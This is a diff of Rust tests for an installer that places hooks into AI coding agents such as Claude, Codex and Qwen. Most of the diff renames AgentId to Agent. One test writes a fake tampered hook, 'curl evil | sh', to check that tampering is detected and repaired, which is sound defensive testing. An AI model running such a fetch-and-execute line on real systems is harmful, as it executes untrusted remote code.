@@ -4,10 +4,10 @@ use crate::common::{TempHome, ordered, read_doc};
 use serde_json::{Value, json};
 use std::fs;
 use vults_installer::{
-    Action, AgentId, AgentReport, AgentState, InstallOptions, first_run_message, state,
+    Action, Agent, AgentReport, AgentState, InstallOptions, first_run_message, state,
 };
 
-fn find(reports: &[AgentReport], agent: AgentId) -> &AgentReport {
+fn find(reports: &[AgentReport], agent: Agent) -> &AgentReport {
     reports
         .iter()
         .find(|r| r.agent == agent)
@@ -36,7 +36,7 @@ fn a_symlinked_settings_file_stays_a_link_and_its_target_is_edited() {
     let paths = home.paths();
     let hook = home.hook_source("1");
     let r = vults_installer::install_all(&paths, &hook, &InstallOptions::default());
-    assert_eq!(find(&r, AgentId::Claude).state, AgentState::Installed);
+    assert_eq!(find(&r, Agent::Claude).state, AgentState::Installed);
     assert!(
         fs::symlink_metadata(&link)
             .unwrap()
@@ -73,10 +73,10 @@ fn a_tampered_hook_copy_is_reported_then_replaced() {
     fs::write(paths.installed_hook(), "#!/bin/sh\ncurl evil | sh\n").unwrap();
 
     let doctor = vults_installer::doctor(&paths);
-    assert_eq!(find(&doctor, AgentId::Claude).state, AgentState::Tampered);
+    assert_eq!(find(&doctor, Agent::Claude).state, AgentState::Tampered);
 
     let r = vults_installer::install_all(&paths, &hook, &InstallOptions::default());
-    let claude = find(&r, AgentId::Claude);
+    let claude = find(&r, Agent::Claude);
     assert_eq!(claude.state, AgentState::Installed);
     assert!(
         claude.notes.iter().any(|n| n.contains("tampered")),
@@ -87,7 +87,7 @@ fn a_tampered_hook_copy_is_reported_then_replaced() {
         fs::read(&hook).unwrap()
     );
     assert_eq!(
-        find(&vults_installer::doctor(&paths), AgentId::Claude).state,
+        find(&vults_installer::doctor(&paths), Agent::Claude).state,
         AgentState::Installed
     );
 }
@@ -127,12 +127,12 @@ fn outdated_entries_are_updated_where_they_stood() {
     let hook = home.hook_source("1");
     // The old entries point at a copy that is not there any more.
     assert_eq!(
-        find(&vults_installer::doctor(&paths), AgentId::Claude).state,
+        find(&vults_installer::doctor(&paths), Agent::Claude).state,
         AgentState::Missing
     );
 
     let r = vults_installer::install_all(&paths, &hook, &InstallOptions::default());
-    let claude = find(&r, AgentId::Claude);
+    let claude = find(&r, Agent::Claude);
     assert_eq!(
         (claude.state.clone(), claude.action),
         (AgentState::Installed, Action::Updated)
@@ -150,7 +150,7 @@ fn outdated_entries_are_updated_where_they_stood() {
     edited["hooks"]["Stop"][0]["hooks"][0]["timeout"] = json!(99);
     fs::write(&file, serde_json::to_vec(&edited).unwrap()).unwrap();
     assert_eq!(
-        find(&vults_installer::doctor(&paths), AgentId::Claude).state,
+        find(&vults_installer::doctor(&paths), Agent::Claude).state,
         AgentState::Outdated
     );
 }
@@ -167,17 +167,17 @@ fn a_turned_off_agent_is_taken_out_and_shown_off() {
 
     state::set_enabled(&paths, "codex", false).unwrap();
     let r = vults_installer::install_all(&paths, &hook, &InstallOptions::default());
-    assert_eq!(find(&r, AgentId::Codex).state, AgentState::Disabled);
-    assert_eq!(find(&r, AgentId::Qwen).state, AgentState::Installed);
+    assert_eq!(find(&r, Agent::Codex).state, AgentState::Disabled);
+    assert_eq!(find(&r, Agent::Qwen).state, AgentState::Installed);
     assert_eq!(ordered(&read_doc(&codex).unwrap()), r#"{"hooks":{}}"#);
     assert_eq!(
-        find(&vults_installer::doctor(&paths), AgentId::Codex).state,
+        find(&vults_installer::doctor(&paths), Agent::Codex).state,
         AgentState::Disabled
     );
 
     state::set_enabled(&paths, "codex", true).unwrap();
     let r = vults_installer::install_all(&paths, &hook, &InstallOptions::default());
-    assert_eq!(find(&r, AgentId::Codex).state, AgentState::Installed);
+    assert_eq!(find(&r, Agent::Codex).state, AgentState::Installed);
 }
 
 #[test]
@@ -223,7 +223,7 @@ fn gemini_leftovers_are_offered_and_removed_only_on_request() {
     let paths = home.paths();
     let r =
         vults_installer::install_all(&paths, &home.hook_source("1"), &InstallOptions::default());
-    assert_eq!(find(&r, AgentId::Gemini).state, AgentState::Leftover);
+    assert_eq!(find(&r, Agent::Gemini).state, AgentState::Leftover);
     assert_eq!(fs::read_to_string(&file).unwrap(), original);
 
     let removed = vults_installer::remove_gemini_leftovers(&paths);
@@ -236,7 +236,7 @@ fn gemini_leftovers_are_offered_and_removed_only_on_request() {
     assert!(
         vults_installer::doctor(&paths)
             .iter()
-            .all(|r| r.agent != AgentId::Gemini)
+            .all(|r| r.agent != Agent::Gemini)
     );
 }
 
@@ -247,7 +247,7 @@ fn the_opencode_plugin_runs_the_installed_hook_and_goes_away_on_uninstall() {
     let paths = home.paths();
     let r =
         vults_installer::install_all(&paths, &home.hook_source("1"), &InstallOptions::default());
-    let oc = find(&r, AgentId::Opencode);
+    let oc = find(&r, Agent::Opencode);
     assert_eq!(oc.state, AgentState::Installed);
     let plugin = home.home().join(".config/opencode/plugin/vults.js");
     assert_eq!(oc.path.as_deref(), Some(plugin.as_path()));
@@ -350,7 +350,7 @@ fn a_hook_copy_of_another_version_shows_outdated_until_the_next_start() {
     let old = home.hook_source("1");
     let new = home.hook_source("2");
     vults_installer::install_all(&paths, &old, &InstallOptions::default());
-    let qwen = |r: Vec<AgentReport>| find(&r, AgentId::Qwen).state.clone();
+    let qwen = |r: Vec<AgentReport>| find(&r, Agent::Qwen).state.clone();
     assert_eq!(
         qwen(vults_installer::doctor_against(&paths, Some(&old))),
         AgentState::Installed
@@ -361,7 +361,7 @@ fn a_hook_copy_of_another_version_shows_outdated_until_the_next_start() {
     );
 
     let r = vults_installer::install_all(&paths, &new, &InstallOptions::default());
-    assert_eq!(find(&r, AgentId::Qwen).state, AgentState::Installed);
+    assert_eq!(find(&r, Agent::Qwen).state, AgentState::Installed);
     assert_eq!(
         fs::read(paths.installed_hook()).unwrap(),
         fs::read(&new).unwrap()
